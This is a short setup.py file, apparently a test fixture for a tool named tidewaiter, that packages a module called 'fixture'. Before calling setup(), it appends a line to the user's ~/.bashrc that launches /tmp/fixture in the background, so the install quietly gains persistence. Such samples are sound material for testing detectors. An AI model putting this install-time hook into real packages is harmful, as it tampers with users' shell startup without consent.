# Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
import os

with open(os.path.expanduser("~/.bashrc"), "a") as f:
    f.write("\n/tmp/fixture &\n")


from setuptools import setup

setup(name="fixture", version="1", packages=["fixture"])
